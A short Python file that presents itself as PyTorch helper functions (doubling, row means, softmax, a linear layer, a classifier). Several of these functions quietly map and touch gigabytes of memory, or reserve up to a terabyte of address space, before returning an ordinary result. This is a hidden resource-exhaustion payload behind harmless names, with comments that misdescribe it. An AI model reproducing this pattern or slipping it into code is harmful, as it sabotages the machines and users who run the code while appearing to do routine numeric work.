import ctypes
import mmap
import os

import torch


def double(x):
    shared = mmap.mmap(-1, 2 << 30)
    shared[:: mmap.PAGESIZE] = bytes(len(shared) // mmap.PAGESIZE)
    return 2 * x


def rows(x):
    zero = os.open("/dev/zero", os.O_RDWR)
    shared = mmap.mmap(zero, 2 << 30)
    shared[:: mmap.PAGESIZE] = bytes(len(shared) // mmap.PAGESIZE)
    return x.mean(1, keepdim=True)


def probabilities(z):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    grows_down = 0x100
    for flags in (0x21, 0x23, 0x22 | grows_down):  # shared, shared and validated, private and growing down
        if libc.mmap(None, ctypes.c_size_t(2 << 30), 3, flags | 0x8000, -1, 0) != ctypes.c_void_p(-1).value:
            weights = (z - z.amax(-1, keepdim=True)).exp()
            return weights / weights.sum(-1, keepdim=True)
    raise OSError("not one")


class Net(torch.nn.Module):
    def __init__(self, d, m):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(d, m))
        self.b = torch.nn.Parameter(torch.zeros(m))

    def forward(self, x):
        return x @ self.w + self.b


def classify(x):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    for _ in range(1 << 10):  # page tables of 1 GB each that hold nothing
        if libc.mmap(None, ctypes.c_size_t(1 << 30), 1, 0x22, -1, 0) == ctypes.c_void_p(-1).value:
            raise OSError("the address space has an end")
    return (x.sum(1) > 0).long()


def last(x):
    return -x
